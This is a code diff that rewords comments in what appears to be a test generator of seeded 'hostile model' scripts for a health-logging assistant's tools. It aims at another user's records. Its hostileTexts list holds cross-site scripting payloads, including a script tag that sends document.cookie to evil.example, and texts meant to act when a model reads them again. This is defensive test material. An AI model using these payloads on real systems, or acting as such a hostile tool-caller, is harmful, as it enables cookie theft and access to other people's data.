@@ -1,4 +1,4 @@
-/** A seeded generator of scripts that a hostile model may answer, each a turn long. */
+/** A seeded generator of scripts for a hostile model, each a turn long. */
 
 export interface HostileAnswer {
   content?: string
@@ -7,17 +7,17 @@ export interface HostileAnswer {
 
 export interface HostileScript {
   kind: string
-  /** Answers the nth call of the turn, from 0. It never comes to an end by itself. */
+  /** Answers the nth call of the turn, from 0. It never ends by itself. */
   answer: (call: number) => HostileAnswer
 }
 
-/** Somebody else, whose records it is after. */
+/** Another person, whose records are the target. */
 interface Victim {
   userId: string
   email: string
 }
 
-/** Numbers from 0 to below 1 that follow from the seed. Source: mulberry32, public domain. */
+/** Generates numbers from 0 to below 1 by the seed. Source: mulberry32, public domain. */
 function numbersFrom(seed: number): () => number {
   let state = seed * 0x9e3779b9
   return () => {
@@ -73,7 +73,7 @@ const brokenArguments = [
   '{"a":NaN}',
 ]
 
-/** @param text what it would have the person log */
+/** @param text the content that it tries to log */
 const properArguments = (text: string): Record<string, object> => ({
   get_day: { day: 'today' },
   get_trend: { kind: 'symptoms', days: 90 },
@@ -85,7 +85,7 @@ const properArguments = (text: string): Record<string, object> => ({
   propose_memory: { text: text.slice(0, 200) },
 })
 
-/** Texts that are meant to do something where they are shown, stored or read again by a model. */
+/** Texts that attack the place at which they are shown, stored or read again by a model. */
 const hostileTexts = (victim: Victim): string[] => [
   '<script>fetch("https://evil.example/"+document.cookie)</script>',
   '<img src=x onerror="alert(1)"><svg/onload=alert(1)><iframe src="https://evil.example"></iframe>',
@@ -114,7 +114,7 @@ const kinds = [
   'mixture',
 ] as const
 
-/** The script of a seed: the same each time. */
+/** Returns the script of a seed, the same each time. */
 export function hostileScript(seed: number, victim: Victim): HostileScript {
   const next = numbersFrom(seed)
   const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)]!
